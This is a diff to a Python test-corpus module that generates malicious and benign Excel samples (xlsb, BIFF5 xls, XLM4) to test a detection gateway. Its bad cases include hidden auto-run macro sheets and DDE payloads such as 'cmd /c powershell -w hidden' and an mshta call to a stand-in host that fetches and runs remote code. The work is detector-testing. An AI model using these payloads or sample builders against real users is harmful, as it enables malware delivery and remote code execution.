@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+from gateway.extraction.ole.tokens import Dialect
 from tools.corpus.detections.case import Case
 from tools.corpus.vba import WORKBOOK_CLASS, Module, vba_project_bin
+from tools.corpus.xls import xls, xls4
 from tools.corpus.xlsb import BinarySheet, Cell, xlsb
 
 _START = {"Auto_Open": "Macro1!$A$1", "_xlfn.BITXOR": "#NAME?"}
@@ -63,9 +65,28 @@ End Sub
 """An honest macro that reads cells; where they were read wrongly it fails."""
 
 
+def _sheets(macro: dict[str, Cell]) -> list[BinarySheet]:
+    return [BinarySheet("Data", _DATA), BinarySheet("Macro1", macro, macro=True, hidden=True)]
+
+
 def _xlsb(macro: dict[str, Cell]) -> bytes:
-    sheets = [BinarySheet("Data", _DATA), BinarySheet("Macro1", macro, macro=True, hidden=True)]
-    return xlsb(sheets, names=_START)
+    return xlsb(_sheets(macro), names=_START)
+
+
+def _xls(macro: dict[str, Cell]) -> bytes:
+    return xls(_sheets(macro), names=_START)
+
+
+def _xls5(macro: dict[str, Cell]) -> bytes:
+    return xls(_sheets(macro), names=_START, dialect=Dialect.BIFF5)
+
+
+def _xls4(macro: dict[str, Cell]) -> bytes:
+    return xls4(macro, {**_START, "Auto_Open": "$A$1"})
+
+
+def _xls_dde(program: str, topic: str) -> bytes:
+    return xls([BinarySheet("Data", _DATA)], dde=(program, topic))
 
 
 def _xlsb_project() -> bytes:
@@ -87,10 +108,25 @@ SHEETS_BAD: tuple[Case, ...] = (
         lambda: _xlsb_dde("cmd", "/c powershell -w hidden -c calc"),
         "document-starts-shell",
     ),
+    Case("shell-5.xls", "ole-xls", lambda: _xls5(_SHELL), "document-starts-shell"),
+    Case("decoded-5.xls", "ole-xls", lambda: _xls5(_DECODED), "document-starts-shell"),
+    Case("fetch-4.xls", "ole-xls", lambda: _xls4(_FETCH), "windows-download-and-run"),
+    Case("fetch.xls", "ole-xls", lambda: _xls(_FETCH), "windows-download-and-run"),
+    Case(
+        "dde.xls",
+        "ole-xls",
+        lambda: _xls_dde("cmd", "/c mshta http://h.example/a"),
+        "document-starts-shell",
+    ),
 )
 SHEETS_HONEST: tuple[Case, ...] = (
     Case("plain.xlsb", "xlsb", lambda: xlsb([BinarySheet("Data", _DATA)])),
     Case("check.xlsb", "xlsb", lambda: _xlsb(_CHECK)),
     Case("totals.xlsb", "xlsb", lambda: _xlsb(_TOTALS)),
     Case("macro.xlsb", "xlsb", _xlsb_project),
+    Case("prices.xlsb", "xlsb", lambda: _xlsb_dde("MTX", "DATA")),
+    Case("check-5.xls", "ole-xls", lambda: _xls5(_CHECK)),
+    Case("totals-5.xls", "ole-xls", lambda: _xls5(_TOTALS)),
+    Case("totals.xls", "ole-xls", lambda: _xls(_TOTALS)),
+    Case("prices.xls", "ole-xls", lambda: _xls_dde("MTX", "DATA")),
 )
